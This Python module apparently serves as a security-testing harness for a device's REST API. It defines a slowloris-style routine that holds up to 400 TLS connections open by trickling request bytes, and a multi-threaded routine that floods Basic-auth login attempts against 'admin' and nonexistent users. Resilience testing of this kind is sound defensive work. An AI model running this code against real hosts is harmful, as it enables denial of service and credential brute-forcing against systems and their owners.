"""Attacks on a host's REST interface by clients without any rights."""

import base64
import secrets
import socket
import ssl
from collections.abc import Callable
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from pathlib import Path
from threading import Event, Thread
from urllib.parse import urlsplit

_HELD = 400
_GUESSERS = 16
_PATIENCE_S = 0.5
_TIMEOUT_S = 10.0
_HEAD = (
    "POST /api/v5_2/cpi HTTP/1.1\r\nHost: cordbox\r\nContent-Type: application/octet-stream\r\n"
    "Content-Length: 1000000\r\n\r\n"
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Door:
    """A host's address, and the certificate that identifies it."""

    url: str
    certificate: Path

    def connect(self) -> ssl.SSLSocket:
        """A new connection.

        Raises:
            OSError: the host refuses it.
        """
        place = urlsplit(self.url)
        context = ssl.create_default_context(cafile=str(self.certificate))
        plain = socket.create_connection((place.hostname, place.port or 443), timeout=_TIMEOUT_S)
        try:
            return context.wrap_socket(plain, server_hostname=place.hostname)
        except BaseException:
            plain.close()
            raise


Stranger = Callable[[Door, Event], None]
"""Attacks until the event is set."""


def hold_connections(door: Door, over: Event) -> None:
    """Open as many connections as allowed, and keep each open by sending a body byte by byte."""
    with ExitStack() as stack:
        held: list[ssl.SSLSocket] = []
        while not over.wait(_PATIENCE_S if len(held) >= _HELD else 0.0):
            if len(held) < _HELD:
                with suppress(OSError):
                    held.append(stack.enter_context(door.connect()))
                    held[-1].sendall(_HEAD.encode())
            else:
                held = [connection for connection in held if _is_fed(connection)]


def _is_fed(connection: ssl.SSLSocket) -> bool:
    try:
        connection.sendall(b"x")
    except OSError:
        connection.close()
        return False
    return True


def guess_passwords(door: Door, over: Event) -> None:
    """Guess the passwords of the administrator and of users that do not exist."""
    threads = [Thread(target=_guess, args=(door, over, f"g{n}")) for n in range(_GUESSERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _guess(door: Door, over: Event, name: str) -> None:
    while not over.is_set():
        with suppress(OSError):
            user = secrets.choice(("admin", name))
            login = base64.b64encode(f"{user}:{secrets.token_hex(8)}".encode()).decode()
            with door.connect() as connection:
                head = f"GET /api/v5_2/cpi HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {login}\r\n"
                connection.sendall(f"{head}Connection: close\r\n\r\n".encode())
                while connection.recv(4096):
                    pass
